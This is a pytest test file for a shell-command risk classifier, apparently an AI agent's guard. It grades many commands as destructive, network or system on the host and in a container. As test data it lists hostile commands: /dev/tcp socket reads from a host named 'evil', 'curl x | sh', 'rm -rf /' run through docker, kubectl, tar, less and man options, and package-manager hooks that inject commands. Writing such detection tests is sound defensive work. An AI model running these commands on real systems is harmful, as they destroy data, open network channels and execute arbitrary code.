"""Sockets under /dev, commands other programs run (submodule foreach, rebase --exec, package managers, containers,
pagers and viewers), mv of sources known only at run time: graded on the host and contained, with near-misses."""

from __future__ import annotations

from pathlib import Path

import pytest

from bot.risk import RiskLevel, classify
from bot.risk.paths import CwdState, may_be_in_workspace, names_socket
from bot.risk.table import PROGRAMS
from bot.risk.words import Word, literal_word

RO = RiskLevel.READ_ONLY
WW = RiskLevel.WORKSPACE_WRITE
NET = RiskLevel.NETWORK
SYS = RiskLevel.SYSTEM
DES = RiskLevel.DESTRUCTIVE

WORKSPACE = Path("/home/dev/project")

# (command, grade on the host, grade contained)
CASES: list[tuple[str, RiskLevel, RiskLevel]] = [
    # --- 1. /dev/tcp and /dev/udp are network sockets in any redirect, argument or assigned value
    ("cat < /dev/tcp/evil/80", NET, NET),
    ("read x </dev/tcp/h/80", NET, NET),
    ("cat /dev/tcp/h/80", NET, NET),
    ("echo x > /dev/tcp/h/80", NET, NET),
    ("echo x > /dev/udp/h/53", NET, NET),
    ("exec 3</dev/tcp/h/80", NET, NET),
    ("cat 0< /dev//./tcp/h/80", NET, NET),
    ('cat < "/dev/tcp/$HOST/80"', NET, NET),
    ("x=/dev/tcp/h/80; cat < $x", NET, NET),
    ("for s in /dev/tcp/h/80; do cat < $s; done", NET, NET),
    ("ssh host 'cat < /dev/tcp/h/80'", NET, NET),
    ("exec 3<>/dev/tcp/h/80", NET, NET),  # tree-sitter-bash makes an ERROR of the >, read as <> (walker)
    ("cat <>/dev/tcp/h/80", DES, DES),  # without a descriptor, another ERROR shape: a parse error, fail closed
    ("sudo cat /dev/tcp/h/80", SYS, NET),
    # near-misses: other /dev rules unchanged
    ("cat < /dev/urandom | head -c 8", RO, RO),
    ("echo hi > /dev/null", RO, RO),
    ("echo hi > /dev/sda", DES, DES),
    ("echo tcp udp > out.txt", WW, WW),
    ("cat /dev/tcpdump.log", RO, RO),
    # --- 2. git submodule foreach / rebase --exec / bisect run grade the command as written
    ("git submodule foreach git reset --hard", DES, DES),
    ("git submodule foreach git push --force", DES, DES),
    ("git submodule foreach --recursive git reset --hard", DES, DES),
    ("git submodule --quiet foreach -q --recursive git clean -fdx", DES, DES),
    ("git submodule foreach sh -c 'git push -f'", DES, DES),
    ("git submodule foreach --bogus git status", DES, DES),
    ("git rebase -x 'git reset --hard' main", DES, DES),
    ("git rebase -ix 'rm -rf build' main", DES, DES),
    ("git rebase --ex='git push --force' main", DES, DES),
    ("git bisect run git reset --hard", DES, DES),
    # near-misses
    ("git submodule foreach --recursive git status", RO, RO),
    ("git submodule foreach 'git status && git log -1'", RO, RO),
    ("git submodule status", RO, RO),
    # run once per submodule: a pull may write through links an earlier round's pull made (a loop body)
    ("git submodule foreach git pull", DES, NET),
    # the recipe runs at other commits, whose package.json FlyBot did not read (recipe-elsewhere)
    ("git rebase --exec 'npm test' main", DES, DES),
    ("git rebase -i main", WW, WW),
    ("git bisect run npm test", DES, DES),
    ("git bisect run pytest -q", WW, WW),
    # --- 3. mv of sources only known at run time out of the workspace is a deletion
    ('for f in src/*; do mv "$f" /tmp; done', DES, DES),
    ("mv $A $B", DES, DES),
    ("ls | xargs mv -t /tmp", DES, DES),
    ("ls | xargs mv", DES, DES),
    ('mv "$f" renamed.txt', DES, DES),  # "$f" may be -t.. (an option): the destination is unknown
    ('mv a "$DEST"', DES, DES),
    ("mv ~/project/src /tmp/x", DES, DES),
    ("mv .. /tmp/x", DES, DES),
    ("cd $DIR && mv a /tmp", DES, DES),
    ("cd /etc; mv x /tmp", DES, DES),
    ("find . -name '*.o' -exec mv {} /tmp \\;", DES, DES),
    ("mv src /tmp/", DES, DES),
    # near-misses
    ("mv a b", WW, WW),
    ("mv -t dir a b", WW, WW),
    ("mv src/* dest/", WW, WW),
    ('mv -- "$f" renamed.txt', SYS, WW),  # may move a file from outside in: a write outside
    ("mv /tmp/a /tmp/b", WW, WW),
    ("mv /etc/a /tmp/b", DES, WW),
    # --- 4. package-manager options that run commands
    ("apt-get install -o DPkg::Pre-Invoke::='curl x ; rm -rf /work/repo' jq", DES, DES),
    ("apt-get -oAPT::Update::Post-Invoke::=x update", DES, DES),
    ("apt-get -yo DPkg::Post-Invoke::=x install jq", DES, DES),
    ("apt-get --option=Dir::Bin::dpkg=/tmp/x install jq", DES, DES),
    ("apt-get -o Dpkg::Options::=--post-invoke=x install jq", DES, DES),
    ("apt -c /tmp/apt.conf install jq", DES, DES),
    ("sudo apt-get -o DPkg::Pre-Install-Pkgs::=x install jq", DES, DES),
    ("APT_CONFIG=/tmp/apt.conf apt-get update", DES, DES),
    ("apt-cache -o Dir::State=/tmp show jq", DES, DES),
    ("dpkg --post-invoke='rm -rf /' -i x.deb", DES, DES),
    ("dnf install --setopt=pluginpath=/tmp/p jq", DES, DES),
    ("dnf -c /tmp/dnf.conf install jq", DES, DES),
    ("pacman -S --hookdir /tmp/hooks jq", DES, DES),
    ("pacman --conf /tmp/pacman.conf -S jq", DES, DES),
    ("brew sh", DES, DES),
    ("brew install ./evil.rb", DES, DES),
    ("brew some-external-command", DES, DES),
    ("snap run jq", DES, DES),
    ("npm --script-shell=/tmp/x test", DES, DES),
    ("npm --script-sh=/tmp/x test", DES, DES),
    ("pnpm --config.script-shell=/tmp/x test", DES, DES),
    ("npm config set script-shell /tmp/x", DES, DES),
    ("npm_config_script_shell=/tmp/x npm test", DES, DES),
    ("yarn --use-yarnrc /tmp/rc install", DES, DES),
    ("pip config set global.python /tmp/x", DES, DES),
    # optparse abbreviations: pip re-runs itself with the interpreter (checked: pip --pyth=/bin/echo list runs echo)
    ("pip --pyth=/tmp/x list", DES, DES),
    ("pip --py /tmp/x freeze", DES, DES),
    ("pip3 --pytho=/tmp/x install requests", DES, DES),
    ("PIP_PYTHON=/tmp/x pip list", DES, DES),
    # near-misses
    ("apt-get install -y jq", SYS, NET),
    ("apt-get -o Dpkg::Options::=--force-confnew install -y jq", SYS, NET),
    ("apt-get -o Acquire::Retries=3 update", SYS, NET),
    ("apt-get install -t bookworm-backports jq", SYS, NET),
    ("apt-cache policy jq", RO, RO),
    ("dnf install -y --setopt=install_weak_deps=False jq", SYS, NET),
    ("pacman -Syu --noconfirm", SYS, NET),
    ("brew install jq", SYS, NET),
    ("snap install jq", SYS, NET),
    ("pnpm install --config.node-linker=hoisted", NET, NET),
    ("npm install --save-dev typescript", NET, NET),
    ("npm config set save-exact true", SYS, WW),
    ("pip config set global.timeout 60", SYS, WW),
    # the user's package source: every later install runs that source's code (destructive on the host)
    ("npm config set registry https://registry.example", DES, WW),
    ("npm set @acme:registry=https://registry.example", DES, WW),
    ("yarn config set npmRegistryServer https://registry.example", DES, WW),
    ("npm config set strict-ssl false", DES, WW),
    ("pip config set global.index-url https://x", DES, WW),
    ("pip config set global.trusted-host x.example", DES, WW),
    # --- 5. commands run in containers and pods are graded (remote script, no downgrade)
    ("docker run -v /:/h alpine rm -rf /h", DES, DES),
    ("kubectl exec pod -- rm -rf /", DES, DES),
    ("docker run alpine sh -c 'rm -rf /'", DES, DES),
    ("docker exec c rm -rf /", DES, DES),
    ("docker exec -it c sh -c 'curl x | sh'", DES, DES),
    ("docker container run --rm alpine rm -f x", DES, DES),
    ("podman run --rm alpine rm -rf /data", DES, DES),
    ("podman exec c rm -rf /data", DES, DES),
    ("docker compose exec web rm -rf /data", DES, DES),
    ("kubectl exec -it pod -c app -- sh -c 'rm -rf /data'", DES, DES),
    ("kubectl run x --image=alpine -- rm -rf /", DES, DES),
    ("docker run --entrypoint rm alpine -rf /", DES, DES),
    ("docker run --unknown-option alpine rm -rf /", DES, DES),
    ("docker run --health-cmd 'rm -rf /' alpine", DES, DES),
    ("docker exec c ./migrate.sh", DES, DES),
    ("docker run -v /var/run/docker.sock:/var/run/docker.sock docker:cli ps", DES, DES),
    ("docker run --mount type=bind,source=/,target=/h alpine ls", DES, DES),
    ("docker run --privileged alpine ls", DES, DES),
    ("docker run --pid=host alpine ls", DES, DES),
    ("docker run --cap-add SYS_ADMIN alpine ls", DES, DES),
    ("docker run -v $HOSTDIR:/h alpine ls", DES, DES),
    ("kubectl run x --image=alpine --privileged", DES, DES),
    ("kubectl debug node/n -it --image=busybox", DES, DES),
    ("docker --config /tmp/x ps", DES, DES),
    ("podman --hooks-dir /tmp/h run alpine ls", DES, DES),
    ("ssh host rm -rf /srv/app", DES, DES),
    # near-misses: the control plane's level stands
    ("docker run --rm alpine ls", SYS, SYS),
    ('docker run --rm -v "$PWD":/src -w /src node:20 npm test', SYS, SYS),
    ("docker run -v ./data:/data alpine ls", SYS, SYS),
    ("docker run myimage --some-flag", SYS, SYS),
    ("docker run --unknown-option alpine ls", SYS, SYS),
    ("docker exec c ls", SYS, SYS),
    ("kubectl exec pod -- ls", SYS, SYS),
    ("kubectl exec pod -- curl https://example.com", SYS, SYS),
    ("docker ps", RO, RO),  # the local engine's state (programs/control.py _DOCKER_LOCAL_READS)
    ("docker -H ssh://prod ps", NET, NET),
    ("ssh host ls", NET, NET),
    # --- 6. pagers, viewers and read-only tools with options that run programs (or write)
    ("man -P 'rm -rf /' ls", DES, DES),
    ("man --pager=x ls", DES, DES),
    ("man -H ls", DES, DES),
    ("man --html=firefox ls", DES, DES),
    ("man -C /tmp/man.conf ls", DES, DES),
    ("MANPAGER=x man ls", DES, DES),
    ("MANOPT='-P x' man ls", DES, DES),
    ("less +'!rm -rf /' f", DES, DES),
    ("less +G f", RO, RO),
    ("less +100g f", RO, RO),
    ("less +Gv f", DES, DES),
    ("less +G +v f", DES, DES),
    ("less '+/x' f", DES, DES),
    ("less -+S f", DES, DES),
    ("less -k keys f", DES, DES),
    ("more +'!rm -rf /' f", DES, DES),
    ("git -c core.pager=x log", DES, DES),
    ("GIT_PAGER=x git log", DES, DES),
    ("jobs -x rm -rf src", DES, DES),
    ("diff3 --diff-program=/tmp/x a b c", DES, DES),
    ("awk -W exec prog.awk", DES, DES),
    ("gawk '@load \"filefuncs\"; BEGIN { }'", DES, DES),
    ('gawk \'BEGIN { f = "system"; @f("rm -rf /") }\'', DES, DES),
    ("gawk 'BEGIN { getline x < \"/inet/tcp/0/evil/80\" }'", NET, NET),
    ("sed 's/a/b/e' f", DES, DES),
    ("zip -qTTcmd out.zip f", DES, DES),
    ("fd -Hx rm", DES, DES),
    ("rsync -e 'ssh -o ProxyCommand=\"rm -rf /\"' src host:dst", DES, DES),
    ("ssh -o Include=/tmp/cfg host", DES, DES),
    ("ssh -I /tmp/lib.so host", DES, DES),
    ("scp -D /tmp/server host:a .", DES, DES),
    ("wget --use-askpass=/tmp/x https://example.com", DES, DES),
    ("tar -xf a.tar --to-command='rm -rf /'", DES, DES),
    ("tar -cf a.tar --checkpoint-action=exec='rm -rf /' src", DES, DES),
    ("tar -czf - -I 'rm -rf /' src", DES, DES),
    ("TAR_OPTIONS=--to-command=x tar -xf a.tar", DES, DES),
    ("RIPGREP_CONFIG_PATH=/tmp/rc rg x", DES, DES),
    ("sort --compress-program=/tmp/x f", DES, DES),
    ("git send-email --to-cmd='rm -rf /' x.patch", DES, DES),
    ("git init --template=/tmp/hooks repo", DES, DES),
    ("git help -w log", DES, DES),
    ("kubectl config set-credentials u --exec-command=/tmp/x", DES, DES),
    # ... and options that write
    ("shuf -o /etc/x in.txt", DES, WW),
    ("ptx -G in.txt /etc/out", DES, WW),
    ("history -w /etc/x", DES, WW),
    ("less -o /etc/log f", DES, WW),
    ("gawk --dump-variables=/etc/x '{ print }' f", DES, WW),
    ("zip -O /etc/x.zip a.zip f", DES, WW),
    ("tar -czf out.tgz -g /etc/snapshot src", DES, WW),
    ("ss -K dst 10.0.0.1", SYS, SYS),
    ("git maintenance start", DES, WW),  # an hourly job running git here: persistence
    ("yq -s '.name' f.yml", SYS, WW),
    ("tar -cf host:/backup.tar src", NET, NET),
    # near-misses
    ("man ls", RO, RO),
    ("man 3 printf", RO, RO),
    ("man -k printf", RO, RO),
    ("less README.md", RO, RO),
    ("less -R log.txt", RO, RO),
    ("more +10 f", RO, RO),
    ("more f", RO, RO),
    ("shuf -n 3 in.txt", RO, RO),
    ("history", RO, RO),
    ("jobs -l", RO, RO),
    ("diff3 a b c", RO, RO),
    ("ss -tulpn", RO, RO),
    ("awk -W version", RO, RO),
    ("awk -F: '{ print $1 }' f", RO, RO),
    ("fd -e py -x wc -l", RO, RO),
    ("zip -r out.zip src", WW, WW),
    ("rsync -e 'ssh -p 2222' -a src/ host:/srv/", NET, NET),
    ("tar --force-local -cf a:b.tar src", WW, WW),
    ("git maintenance run", WW, WW),
    ("git help log", RO, RO),
]


@pytest.mark.parametrize(("command", "host", "contained"), CASES, ids=[c[0][:60] for c in CASES])
def test_grade_on_host_and_contained(command: str, host: RiskLevel, contained: RiskLevel) -> None:
    on_host = classify(command, contained=False, workspace=WORKSPACE)
    in_vm = classify(command, contained=True, workspace=WORKSPACE)
    assert (on_host.risk, in_vm.risk) == (host, contained), (on_host.reasons, in_vm.reasons)


@pytest.mark.parametrize(
    "command",
    [
        "cat < /dev/tcp/h/80",
        "cat /dev/udp/h/53",
        "docker exec c rm -rf /",
        "kubectl exec p -- rm -rf /",
        "apt-get -o X::Y=1 update",
    ],
)
def test_these_findings_are_never_marked_downgraded(command: str) -> None:
    in_vm = classify(command, contained=True, workspace=WORKSPACE)
    assert in_vm.risk >= NET
    assert not any(r.downgraded and r.level > WW for r in in_vm.reasons)
    assert not any(r.downgraded for r in in_vm.reasons if r.rule in ("network-socket", "deletion", "runs-program"))


def test_container_commands_are_listed_under_their_control_plane_wrapper() -> None:
    commands = classify("docker exec c ls -la", contained=True, workspace=WORKSPACE).commands
    assert [(c.argv, c.wrappers) for c in commands] == [
        (("docker", "exec", "c", "ls", "-la"), ()),
        (("ls", "-la"), ("docker exec",)),
    ]
    assert all(c.risk == SYS for c in commands)


def test_submodule_foreach_runs_its_command_through_the_shell() -> None:
    # One word is a script; with more, the first is shell text and the rest are quoted arguments.
    commands = classify("git submodule foreach echo 'a; rm -rf x'", contained=False, workspace=WORKSPACE).commands
    assert [c.argv for c in commands] == [("echo", "a; rm -rf x")]
    assert classify("git submodule foreach 'echo a; rm -rf x'", contained=False, workspace=WORKSPACE).risk == DES


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("/dev/tcp/h/80", True), ("/dev/udp/h/53", True), ("/dev//tcp/h/80", True), ("/dev/./udp/h/1", True),
        ("if=/dev/tcp/h/80", True), ("/dev/tcp", True), ("/dev/tcpdump", False), ("/dev/null", False), ("tcp", False),
    ],
)  # fmt: skip
def test_names_socket(value: str, expected: bool) -> None:
    assert names_socket(literal_word(value)) is expected
    assert names_socket(Word(None, '"' + value + '$X"')) is expected


def test_may_be_in_workspace() -> None:
    state = CwdState.start("/home/dev/project")
    assert may_be_in_workspace(literal_word("src/a.py"), state)
    assert may_be_in_workspace(Word(None, "$f"), state)
    assert may_be_in_workspace(literal_word("~/x"), state)
    assert may_be_in_workspace(literal_word("/home"), state)  # holds the workspace
    assert not may_be_in_workspace(literal_word("/etc/x"), state)
    assert not may_be_in_workspace(literal_word("/tmp/x"), state)
    assert not may_be_in_workspace(Word(None, "$TMPDIR/x", "/x"), state)
    assert may_be_in_workspace(literal_word("x"), state.unknown())
    assert not may_be_in_workspace(Word(None, "$f"), CwdState.remote_state())


def test_the_new_handlers_are_in_the_table_with_sources() -> None:
    for name in (
        "man",
        "less",
        "more",
        "shuf",
        "ptx",
        "diff3",
        "ss",
        "file",
        "history",
        "jobs",
        "apt-get",
        "dnf",
        "pacman",
        "brew",
        "snap",
        "dpkg",
    ):
        assert PROGRAMS[name].source, name
